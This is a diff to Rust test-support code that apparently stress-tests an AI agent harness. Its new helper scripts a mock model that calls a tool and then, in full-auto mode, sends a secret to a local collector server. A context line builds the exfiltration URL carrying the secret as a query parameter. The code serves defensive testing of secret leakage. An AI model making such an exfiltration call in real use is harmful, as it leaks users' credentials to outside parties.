@@ -84,6 +84,30 @@ pub fn git_project(port: u16, extra: &str) -> Sandbox {
     sb
 }
 
+/// In a [`git_project`] (after `prepare`), the model calls `tool` with
+/// `args` (call `c1`), then sends the secret to the collector (call `c2`) in
+/// full-auto mode: the collector and the run's events.
+pub fn git_then_send(
+    tool: &str,
+    args: Value,
+    prepare: impl FnOnce(&Sandbox),
+) -> (MockServer, Vec<Value>) {
+    use crate::support::cassette::{answer_turn, call_turn};
+    let server = collector();
+    let sb = git_project(server.port, "");
+    prepare(&sb);
+    cassette(
+        &sb,
+        &[
+            call_turn("c1", tool, args),
+            send_turn("c2", server.port),
+            answer_turn("Done."),
+        ],
+    );
+    let events = run_full_auto(&Cli::new(), &sb);
+    (server, events)
+}
+
 /// The model's call `id` that sends the secret to the collector on `port`.
 pub fn send_turn(id: &str, port: u16) -> Value {
     let url = format!("http://127.0.0.1:{port}/collect?k={SECRET}");
